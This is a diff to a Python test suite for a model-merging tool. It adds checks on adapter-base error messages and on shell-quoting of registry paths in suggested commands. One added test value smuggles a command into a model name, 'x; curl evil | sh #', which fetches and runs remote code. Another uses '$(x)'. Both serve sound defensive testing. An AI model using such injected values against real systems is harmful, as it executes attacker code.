@@ -15,6 +15,7 @@ from bench.entries import AdapterSource, FileSource, HubFileSource, HubSource
 from bench.registry import load_registry
 from bench.schema import DrsowError, PreconditionError, UsageError
 from bench.verbs.add import Asked, add_model, add_pair
+from bench.verbs.lock import read_lock
 
 OLD, NEW = "a" * 40, "b" * 40
 N_PARAMS = 41_376
@@ -169,9 +170,14 @@ def test_a_folder_of_a_model_and_an_adapter_becomes_an_adapter_and_says_so(tiny_
             "--registry MINE`), or name the base's model_id with --base",
         ),
         (
+            {"base_model_name_or_path": "x; curl evil | sh #"},
+            Asked(),
+            "is an adapter of 'x; curl evil | sh #', which is no hub repository; name its base's model_id with --base",
+        ),
+        (
             {"base_model_name_or_path": None},
             Asked(),
-            "lora: is an adapter that names no base; name its model_id with --base",
+            "lora: is an adapter that names no base; name its base's model_id with --base",
         ),
         ({"peft_type": "IA3"}, Asked(base="mistral-7b-v0.1"), "is of the kind 'IA3'; drsow merges LoRA adapters only"),
         ({}, Asked(base="mistral-7b"), "unknown model 'mistral-7b', did you mean "),
@@ -182,6 +188,16 @@ def test_an_adapter_without_a_known_base_is_one_line(mine, tmp_path, more, asked
         add_model(mine, str(adapter(tmp_path / "lora", "me/base", **more)), asked)
     assert words.replace("MINE", str(mine)) in str(error.value) and "\n" not in str(error.value)
     assert not mine.exists()
+
+
+def test_a_registry_with_a_space_in_its_name_is_quoted_in_the_command(tmp_path):
+    mine = tmp_path / "my registry"
+    with pytest.raises(UsageError, match=f"add Me/Base --registry '{mine}'`"):
+        add_model(mine, str(adapter(tmp_path / "lora", "Me/Base")), Asked())
+    with pytest.raises(UsageError, match=f"add REPO --registry '{mine}'`"):
+        add_pair(mine, "none/$(x)", "tiny", pair_id=None, template=None)
+    with pytest.raises(PreconditionError, match=f"--lock '{mine}/l'`"):
+        read_lock(mine / "l")
 
 
 @pytest.mark.parametrize(
